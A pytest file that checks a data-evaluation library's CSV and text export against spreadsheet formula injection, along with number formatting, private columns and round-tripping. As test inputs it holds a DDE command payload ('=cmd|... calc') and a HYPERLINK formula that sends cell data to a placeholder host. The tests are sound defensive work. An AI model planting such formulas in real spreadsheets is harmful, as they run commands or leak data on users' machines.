"""What is taken away opens in a spreadsheet as what it is, and reads back as what it was."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import offdiagonal as od
from offdiagonal import export
from offdiagonal.errors import MessageError
from offdiagonal.export import TRIGGERS, export_rows, safe
from offdiagonal.table.plain import number_text
from tests import make_csv_fixtures


class Formula:
    """An object whose text is a formula."""

    def __init__(self, text: str = "=cmd|' /C calc'!A0") -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def exported(frame: Any, kind: str = "csv", private: bool = True, **options: Any) -> list[list[str]]:
    ev = od.Evaluation(frame, prediction="predicted", **options)
    text = export_rows(ev._engine, np.arange(len(ev)), kind, private=private)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter="," if kind == "csv" else "\t"))


def column(values: list[Any], name: str = "values") -> dict[str, Any]:
    array = np.empty(len(values), dtype=object)
    array[:] = values
    return {"label": ["a"] * len(values), "predicted": ["a"] * len(values), name: array}


@pytest.mark.parametrize("kind", ["csv", "text"])
@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("text", ["{}", "{}1+1", '{}"x",y', "{}a\nb\tc"])
def test_formulas_are_disarmed_wherever_they_stand(kind: str, trigger: str, text: str) -> None:
    attack = text.format(trigger)
    frame = {
        "label": [attack, "b"],
        "predicted": [attack, "b"],
        "text": [attack, "x"],
        f"{trigger}name": [attack, attack],
    }
    head, first, second = exported(frame, kind, text="text")
    assert head == ["row", "label", "predicted", "text", f"'{trigger}name"]
    assert first == ["0", "'" + attack, "'" + attack, "'" + attack, "'" + attack]
    assert second == ["1", "b", "b", "x", "'" + attack]


POSITIONS: dict[str, Callable[[str], dict[str, Any]]] = {
    "class": lambda attack: {"label": [attack, "b"], "predicted": ["b", attack]},
    "column": lambda attack: {attack: ["x", "y"]},
    "level": lambda attack: {"few": [attack, attack]},
    "text": lambda attack: {"text": [attack, "y"]},
    "id": lambda attack: {"id": [attack, f"{attack} 2"]},
    "mixed": lambda attack: {"mixed": column([attack, 1])["values"]},
    "object": lambda attack: {"objects": column([Formula(attack), Formula(attack)])["values"]},
    "missing beside it": lambda attack: {"holes": column([None, attack])["values"]},
}


@pytest.mark.parametrize("dialect", ["csv", "text"])
@pytest.mark.parametrize("position", POSITIONS)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_cell_is_a_formula_for_any_reader(trigger: str, position: str, dialect: str) -> None:
    attack = f'{trigger}HYPERLINK("http://x.invalid/"&A1,"y")'
    frame = {"label": ["a", "b"], "predicted": ["b", "b"], **POSITIONS[position](attack)}
    ev = od.Evaluation(frame, prediction="predicted")
    text = export_rows(ev._engine, np.arange(2), dialect, private=True)
    separator = "," if dialect == "csv" else "\t"
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    table = pd.read_csv(io.StringIO(text, newline=""), sep=separator, header=None, dtype=str, na_filter=False)
    assert read == table.to_numpy().tolist()
    cells = [cell for row in read for cell in row]
    assert not any(cell.startswith(TRIGGERS) for cell in cells)
    assert any(cell.startswith("'" + attack) for cell in cells)


def test_numbers_stay_numbers() -> None:
    values = [
        -1,
        -2.5,
        Decimal("-1.10"),
        np.int64(-7),
        np.float32(-0.1),
        -(2**70),
        float("-inf"),
        True,
        1e300,
    ]
    rows = exported(column(values))
    expected = ["-1", "-2.5", "-1.10", "-7", "-0.1", str(-(2**70)), "-inf", "True", "1e+300"]
    assert [row[3] for row in rows[1:]] == expected
    assert [row[3] for row in exported({**column([0, 0]), "values": np.asarray([-(2**62), -1])})[1:]] == [
        str(-(2**62)),
        "-1",
    ]


def test_the_fixtures_are_what_the_script_makes() -> None:
    assert json.loads(make_csv_fixtures.PATH.read_text("utf-8")) == json.loads(
        json.dumps(make_csv_fixtures.build())
    )


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_read_back(value: float) -> None:
    assert float(number_text(value)) == value
    assert number_text(value) == number_text(float(np.float64(value)))


def test_text_that_looks_like_a_number_is_text() -> None:
    assert [row[3] for row in exported(column(["-1", "+49 30", "-", "1"]))[1:]] == [
        "'-1",
        "'+49 30",
        "'-",
        "1",
    ]


def test_objects_whose_text_is_a_formula() -> None:
    rows = exported(column([Formula(), [Formula()], b"=1", "ok"]))
    assert [row[3][0] for row in rows[1:]] == ["'", "[", "2", "o"]


def test_missing_values_and_times() -> None:
    frame = {
        **column([None, float("nan"), pd.NA]),
        "label": ["a", None, "b"],
        "predicted": ["a", "b", None],
        "at": np.asarray(["2024-01-01", "NaT", "2024-01-02T03:04:05.5"], dtype="datetime64[ns]"),
        "share": [0.5, np.nan, 1.0],
    }
    assert [row[1:] for row in exported(frame)[1:]] == [
        ["a", "a", "", "2024-01-01 00:00:00", "0.5"],
        ["", "b", "", "", ""],
        ["b", "", "", "2024-01-02 03:04:05.5", "1"],
    ]


def test_classes_that_are_numbers_stay_numbers() -> None:
    rows = exported({"label": [-1, 1, 1], "predicted": [-1, -1, 1]})
    assert [row[1:] for row in rows[1:]] == [["-1", "-1"], ["1", "-1"], ["1", "1"]]
    rows = exported({"label": ["-1", "1", "1"], "predicted": ["-1", "-1", "1"]})
    assert [row[1] for row in rows[1:]] == ["'-1", "1", "1"]


def test_private_columns_only_when_asked_for() -> None:
    frame = {**column(["x", "y", "z"]), "name": ["Ada", "Grace", "Ada"]}
    head, *rows = exported(frame, private=False, group="values")
    assert "name" in head
    ev = od.Evaluation(frame, prediction="predicted", private=["name"])
    without = export_rows(ev._engine, np.arange(3), "csv", private=False)
    assert "Ada" not in without
    assert "name" not in without
    assert "Ada" in export_rows(ev._engine, np.arange(3), "csv", private=True)
    assert len(rows) == 3


def test_scores_and_confidence_have_columns() -> None:
    frame = {"label": ["a", "b"], "predicted": ["a", "a"], "score": [1.5, -2.0]}
    assert exported(frame, scores="score")[0][:4] == ["row", "label", "predicted", "score"]
    ev = od.Evaluation(
        {"label": ["a", "b"], "predicted": ["a", "a"]},
        prediction="predicted",
        probabilities=np.asarray([[0.75, 0.25], [0.5, 0.5]]),
    )
    text = export_rows(ev._engine, np.arange(2), "csv", private=True)
    assert text == "row,label,predicted,confidence\r\n0,a,a,0.75\r\n1,b,a,0.5\r\n"


def test_rows_come_in_the_given_order_and_number() -> None:
    n = 3 * export.CHUNK + 7
    ev = od.Evaluation(
        {"label": ["a"] * n, "predicted": ["a"] * n, "i": np.arange(n)}, prediction="predicted"
    )
    order = np.random.default_rng(0).permutation(n)
    lines = export_rows(ev._engine, order, "csv", private=True).splitlines()
    assert [int(line.split(",")[0]) for line in lines[1:]] == order.tolist()
    assert [int(line.split(",")[-1]) for line in lines[1:]] == order.tolist()


def test_too_much_text_is_refused_with_a_way_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MAX_CHARS", 100)
    with pytest.raises(MessageError, match=r"selection\.frame\(\)"):
        exported(column(["x" * 80, "y" * 80]))


cells = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12)


@settings(max_examples=300)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=8), st.sampled_from(["csv", "text"]))
def test_what_is_written_reads_back(rows: list[tuple[str, str]], kind: str) -> None:
    frame = column([text for text, _ in rows]) | {
        "other": np.asarray([text for _, text in rows], dtype=object)
    }
    read = exported(frame, kind)
    assert [tuple(row[3:]) for row in read[1:]] == [(safe(a), safe(b)) for a, b in rows]


@given(st.text() | st.integers() | st.floats() | st.none() | st.binary())
def test_nothing_safe_is_a_formula(value: Any) -> None:
    shown = safe(value)
    if isinstance(shown, str):
        shown.encode()
        assert not shown.startswith(TRIGGERS)
        assert (
            isinstance(value, bytes)
            or shown.removeprefix("'")[-3:].replace("\ufffd", "?")
            == value[-3:].encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\ufffd", "?")
            or value.startswith("'")
        )
    else:
        assert shown is value
